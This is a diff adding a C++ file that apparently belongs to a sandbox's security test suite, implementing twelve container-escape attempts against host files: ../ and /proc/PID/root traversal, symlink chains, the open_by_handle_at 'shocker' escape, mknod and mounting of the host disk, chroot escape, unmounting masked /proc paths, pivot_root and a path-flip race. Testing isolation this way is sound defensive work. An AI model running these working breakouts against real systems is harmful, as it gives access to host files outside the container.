@@ -1,0 +1,362 @@
+// Reaching host files: paths, /proc links, symlinks, file handles, a block
+// device node, chroot, and the path-flip race against the sentry.
+#include <dirent.h>
+#include <fcntl.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <cerrno>
+#include <cstring>
+#include <fstream>
+#include <sstream>
+#include <thread>
+
+#include "attack.h"
+
+namespace vigil::security {
+namespace {
+
+// The numeric entries of /proc (bounded), plus the self links.
+std::vector<std::string> ProcEntries() {
+  std::vector<std::string> out = {"self", "thread-self", "1"};
+  DIR* d = ::opendir("/proc");
+  if (!d) return out;
+  while (dirent* e = ::readdir(d)) {
+    if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && out.size() < 4096) out.push_back(e->d_name);
+  }
+  ::closedir(d);
+  return out;
+}
+
+Outcome ReadAbsolute(const Context& c) {
+  std::string got;
+  if (ReadsSecret(AT_FDCWD, c.secret, &got)) return Escaped(got);
+  return Contained("open(" + c.secret + "): " + got);
+}
+
+Outcome ReadDotDot(const Context& c) {
+  std::string got;
+  for (const char* dir : {"/", "/tmp", "/proc/self", "/dev"}) {
+    if (::chdir(dir) != 0) continue;
+    std::string path = DotDots(40) + c.secret.substr(1);
+    if (ReadsSecret(AT_FDCWD, path, &got)) return Escaped("from " + std::string(dir) + ": " + got);
+  }
+  if (ReadsSecret(AT_FDCWD, "/.." + c.secret, &got)) return Escaped("/.. prefix: " + got);
+  return Contained("../ x40 from /, /tmp, /proc/self, /dev: " + got);
+}
+
+Outcome ReadProcRoot(const Context& c) {
+  std::string got;
+  int tried = 0;
+  for (const std::string& pid : ProcEntries()) {
+    for (const std::string& path :
+         {"/proc/" + pid + "/root" + c.secret, "/proc/" + pid + "/root/" + DotDots(20) + c.secret,
+          "/proc/" + pid + "/cwd/" + DotDots(40) + c.secret}) {
+      ++tried;
+      if (ReadsSecret(AT_FDCWD, path, &got)) return Escaped(path + ": " + got);
+    }
+  }
+  return Contained(std::to_string(tried) + " /proc/PID/{root,cwd} paths: " + got);
+}
+
+Outcome ReadSymlink(const Context& c) {
+  std::string got;
+  const std::string targets[] = {c.secret, DotDots(40) + c.secret.substr(1),
+                                 "/proc/1/root/" + DotDots(20) + c.secret.substr(1),
+                                 "/proc/self/cwd/" + DotDots(40) + c.secret.substr(1)};
+  int i = 0;
+  for (const std::string& target : targets) {
+    std::string link = "/tmp/vsec-link" + std::to_string(i++);
+    ::unlink(link.c_str());
+    if (::symlink(target.c_str(), link.c_str()) != 0) continue;
+    if (ReadsSecret(AT_FDCWD, link, &got)) return Escaped(link + " -> " + target + ": " + got);
+  }
+  // A directory symlink to / used as a prefix, and a chain of links.
+  ::symlink("/", "/tmp/vsec-root");
+  if (ReadsSecret(AT_FDCWD, "/tmp/vsec-root/" + DotDots(10) + c.secret.substr(1), &got)) {
+    return Escaped("via /tmp/vsec-root: " + got);
+  }
+  ::symlink("vsec-root/..", "/tmp/vsec-chain");
+  if (ReadsSecret(AT_FDCWD, "/tmp/vsec-chain/" + DotDots(10) + c.secret.substr(1), &got)) {
+    return Escaped("via chain: " + got);
+  }
+  return Contained("absolute, ../, /proc/1/root and chained symlinks: " + got);
+}
+
+// The "shocker" escape: a file handle for inode 2 (the root directory of an
+// ext4 filesystem) opened against any fd on that filesystem.
+Outcome OpenByHandle(const Context& c) {
+  struct {
+    file_handle h;
+    unsigned char bytes[MAX_HANDLE_SZ];
+  } own{};
+  own.h.handle_bytes = MAX_HANDLE_SZ;
+  int mount_id = 0;
+  if (::name_to_handle_at(AT_FDCWD, "/attack", &own.h, &mount_id, 0) != 0) {
+    // name_to_handle_at is harmless by itself; go on with a guessed handle.
+    own.h.handle_type = 1;  // FILEID_INO32_GEN
+    own.h.handle_bytes = 8;
+  }
+  int root = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  int fd = ::open_by_handle_at(root, &own.h, O_RDONLY | O_CLOEXEC);
+  std::string detail = "own file: " + (fd >= 0 ? std::string("opened") : ErrnoText(errno));
+  if (fd >= 0) ::close(fd);
+  bool opened_any = fd >= 0;
+  // Inode 2, generation 0: the filesystem's root, outside the container's.
+  struct {
+    file_handle h;
+    std::uint32_t ino_gen[2];
+  } host{};
+  host.h.handle_bytes = 8;
+  host.h.handle_type = 1;
+  host.ino_gen[0] = 2;
+  host.ino_gen[1] = 0;
+  int fsroot = ::open_by_handle_at(root, &host.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  detail += "; inode 2: " + (fsroot >= 0 ? std::string("opened") : ErrnoText(errno));
+  ::close(root);
+  if (fsroot >= 0) {
+    opened_any = true;
+    std::string got;
+    bool secret = ReadsSecret(fsroot, c.secret.substr(1), &got);
+    ::close(fsroot);
+    detail += "; " + got;
+    if (secret) return Escaped(detail);
+  }
+  if (opened_any) return Escaped("open_by_handle_at works, any inode is reachable: " + detail);
+  return Contained(detail);
+}
+
+// The block device behind a host mount (from /proc/partitions, which is not
+// namespaced): mknod it, open it read-only, mount it read-only.
+Outcome MknodHostDisk(const Context& c) {
+  std::ifstream parts("/proc/partitions");
+  std::string line;
+  unsigned major_no = 0, minor_no = 0;
+  std::string name;
+  while (std::getline(parts, line)) {
+    std::istringstream in(line);
+    unsigned ma, mi;
+    unsigned long long blocks;
+    std::string n;
+    if (in >> ma >> mi >> blocks >> n) {
+      major_no = ma;
+      minor_no = mi;
+      name = n;
+      break;
+    }
+  }
+  if (name.empty()) {
+    major_no = 254;  // virtio: the disk on these machines
+    minor_no = 0;
+    name = "vda (guessed)";
+  }
+  std::string detail = name + " " + std::to_string(major_no) + ":" + std::to_string(minor_no);
+  const char* node = nullptr;
+  for (const char* path : {"/dev/vsec-disk", "/tmp/vsec-disk"}) {
+    ::unlink(path);
+    if (::mknod(path, S_IFBLK | 0600, makedev(major_no, minor_no)) == 0) {
+      node = path;
+      break;
+    }
+    detail += "; mknod " + std::string(path) + ": " + ErrnoText(errno);
+  }
+  if (!node) return Contained(detail);
+  detail += "; mknod ok";
+  bool escaped = false;
+  int fd = ::open(node, O_RDONLY | O_CLOEXEC);
+  if (fd >= 0) {
+    char block[512];
+    ssize_t n = ::read(fd, block, sizeof block);
+    detail += "; open O_RDONLY ok, read " + std::to_string(n) + " bytes of the host disk";
+    ::close(fd);
+    escaped = true;
+  } else {
+    detail += "; open: " + ErrnoText(errno);
+  }
+  ::mkdir("/tmp/vsec-mnt", 0700);
+  if (::mount(node, "/tmp/vsec-mnt", "ext4", MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC,
+              nullptr) == 0) {
+    std::string got;
+    escaped = true;
+    detail += "; mounted read-only";
+    if (ReadsSecret(AT_FDCWD, "/tmp/vsec-mnt" + c.secret, &got)) detail += "; " + got;
+    ::umount2("/tmp/vsec-mnt", MNT_DETACH);
+  } else {
+    detail += "; mount: " + ErrnoText(errno);
+  }
+  ::unlink(node);
+  return escaped ? Escaped(detail) : Contained(detail);
+}
+
+// Creates files named after the method in the host marker directory, by
+// every path trick; the harness checks that the directory stays empty.
+Outcome WriteOutside(const Context& c) {
+  std::string m = c.marker.substr(1);  // relative form
+  ::symlink(c.marker.c_str(), "/tmp/vsec-wlink");
+  const std::pair<std::string, std::string> tries[] = {
+      {"absolute", c.marker + "/absolute"},
+      {"dotdot", "/tmp/" + DotDots(40) + m + "/dotdot"},
+      {"proc1root", "/proc/1/root/" + DotDots(20) + m + "/proc1root"},
+      {"procselfcwd", "/proc/self/cwd/" + DotDots(40) + m + "/procselfcwd"},
+      {"symlink", "/tmp/vsec-wlink/symlink"},
+  };
+  std::string detail;
+  for (const auto& [method, path] : tries) {
+    int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
+    if (fd >= 0) {
+      (void)!::write(fd, "escaped\n", 8);
+      ::close(fd);
+      return Escaped(method + ": created " + path);
+    }
+    detail += method + ": " + ErrnoText(errno) + "; ";
+  }
+  return Contained(detail);
+}
+
+// chroot into a subdirectory, climb out with chdir(".."), chroot("."): the
+// classic escape when the runtime used chroot instead of pivot_root.
+Outcome ChrootEscape(const Context& c) {
+  ::mkdir("/tmp/vsec-jail", 0700);
+  ChildResult r = InChild([&]() -> long {
+    if (::chroot("/tmp/vsec-jail") != 0) return -1;
+    for (int i = 0; i < 64; ++i) (void)!::chdir("..");
+    if (::chroot(".") != 0) return -1;
+    errno = 0;
+    return ReadsSecret(AT_FDCWD, c.secret) ? 1 : 0;
+  });
+  if (r.exited && r.ret == 1) return Escaped("chroot+chdir(..) reached the host secret");
+  return Contained("chroot escape: " + r.Describe() +
+                   (r.exited && r.ret == 0 ? " (still inside the container's root)" : ""));
+}
+
+Outcome Mount(const Context&) {
+  ::mkdir("/tmp/vsec-m", 0700);
+  std::string detail;
+  bool escaped = false;
+  struct Try {
+    const char* what;
+    const char* src;
+    const char* type;
+    unsigned long flags;
+  };
+  for (const Try& t : {Try{"tmpfs", "none", "tmpfs", 0UL}, Try{"bind /", "/", nullptr, MS_BIND},
+                       Try{"proc", "proc", "proc", 0UL}, Try{"sysfs", "sysfs", "sysfs", 0UL},
+                       Try{"remount / rw", nullptr, nullptr, MS_REMOUNT | MS_BIND}}) {
+    const char* target = t.src == nullptr ? "/" : "/tmp/vsec-m";
+    if (::mount(t.src, target, t.type, t.flags, nullptr) == 0) {
+      escaped = true;
+      detail += std::string(t.what) + ": mounted; ";
+      if (t.src != nullptr) ::umount2("/tmp/vsec-m", MNT_DETACH);
+    } else {
+      detail += std::string(t.what) + ": " + ErrnoText(errno) + "; ";
+    }
+  }
+  return escaped ? Escaped(detail) : Contained(detail);
+}
+
+// Unmounting a masked or read-only path would uncover the host's view below.
+Outcome UmountMasked(const Context&) {
+  std::string detail;
+  bool escaped = false;
+  for (const char* path : {"/proc/kcore", "/proc/sys", "/proc/sysrq-trigger", "/sys/firmware",
+                           "/proc/keys"}) {
+    if (::umount2(path, MNT_DETACH) == 0) {
+      escaped = true;
+      detail += std::string(path) + ": unmounted; ";
+    } else {
+      detail += std::string(path) + ": " + ErrnoText(errno) + "; ";
+    }
+  }
+  return escaped ? Escaped(detail) : Contained(detail);
+}
+
+// pivot_root(".", ".") from / stacks the old root over the new one; the
+// permission check (CAP_SYS_ADMIN over the mount namespace) comes first, so
+// anything but EPERM/ENOSYS means the kernel would have acted.
+Outcome PivotRoot(const Context&) {
+  ChildResult r = InChild([]() -> long {
+    if (::chdir("/") != 0) return -1;
+    return ::syscall(SYS_pivot_root, ".", ".");
+  });
+  if (r.exited && (r.ret == 0 || !IsRefusal(r.err))) return Escaped("pivot_root: " + r.Describe());
+  return Contained("pivot_root: " + r.Describe());
+}
+
+// Two threads for 2 s: one opens a path held in memory (and a symlink), the
+// other flips it between a benign container file and the host secret. A
+// sentry that reads the path twice (check, then use) opens the host file.
+Outcome PathFlipRace(const Context& c) {
+  {
+    std::ofstream benign("/tmp/vsec-benign");
+    benign << "benign\n";
+  }
+  constexpr std::size_t kLen = 4096;
+  static char path[kLen];
+  const std::string benign = "/tmp/vsec-benign";
+  const std::string evil[] = {c.secret, "/tmp/" + DotDots(40) + c.secret.substr(1),
+                              "/proc/1/root/" + DotDots(20) + c.secret.substr(1)};
+  std::snprintf(path, kLen, "%s", benign.c_str());
+  ::symlink(benign.c_str(), "/tmp/vsec-flip");
+  std::atomic<bool> stop{false};
+  std::atomic<long> flips{0};
+  std::thread flipper([&] {
+    std::size_t i = 0;
+    while (!stop.load(std::memory_order_relaxed)) {
+      const std::string& e = evil[i++ % 3];
+      std::memcpy(path, e.c_str(), e.size() + 1);
+      std::memcpy(path, benign.c_str(), benign.size() + 1);
+      // The symlink: rename a prepared link over it, alternately.
+      ::unlink("/tmp/vsec-flip.new");
+      if (::symlink((i & 1) ? e.c_str() : benign.c_str(), "/tmp/vsec-flip.new") == 0) {
+        ::rename("/tmp/vsec-flip.new", "/tmp/vsec-flip");
+      }
+      flips.fetch_add(1, std::memory_order_relaxed);
+    }
+  });
+  long long deadline = NowMs() + 2000;
+  long opens = 0, benign_reads = 0;
+  std::string escaped_detail;
+  while (NowMs() < deadline && escaped_detail.empty()) {
+    for (const char* p : {static_cast<const char*>(path), "/tmp/vsec-flip"}) {
+      std::string got;
+      ++opens;
+      if (ReadsSecret(AT_FDCWD, p, &got)) {
+        escaped_detail = got;
+        break;
+      }
+      if (got == "read non-secret data") ++benign_reads;
+    }
+  }
+  stop = true;
+  flipper.join();
+  std::string detail = std::to_string(opens) + " opens, " + std::to_string(benign_reads) +
+                       " benign reads, " + std::to_string(flips.load()) + " flips in 2 s";
+  if (!escaped_detail.empty()) return Escaped(detail + ": " + escaped_detail);
+  return Contained(detail);
+}
+
+}  // namespace
+
+const std::vector<Attack>& FsAttacks() {
+  static const std::vector<Attack> kAttacks = {
+      {"read-absolute", ReadAbsolute, "open the host secret by its absolute host path"},
+      {"read-dotdot", ReadDotDot, "climb out of the root with ../ from several directories"},
+      {"read-proc-root", ReadProcRoot, "/proc/PID/root and /proc/PID/cwd of every visible pid"},
+      {"read-symlink", ReadSymlink, "absolute, ../, /proc and chained symlinks to the secret"},
+      {"open-by-handle", OpenByHandle, "open_by_handle_at with inode 2 (the shocker escape)"},
+      {"mknod-host-disk", MknodHostDisk, "mknod the host disk, open it, mount it read-only"},
+      {"write-outside", WriteOutside, "create files in a host marker directory by path tricks"},
+      {"chroot-escape", ChrootEscape, "chroot into a subdirectory, chdir(..) out, chroot(.)"},
+      {"mount", Mount, "mount tmpfs, proc, sysfs, bind / and remount / read-write"},
+      {"umount-masked", UmountMasked, "unmount masked and read-only /proc and /sys paths"},
+      {"pivot-root", PivotRoot, "pivot_root(., .) from /"},
+      {"path-flip-race", PathFlipRace, "flip a path in memory and a symlink while opening (2 s)"},
+  };
+  return kAttacks;
+}
+
+}  // namespace vigil::security
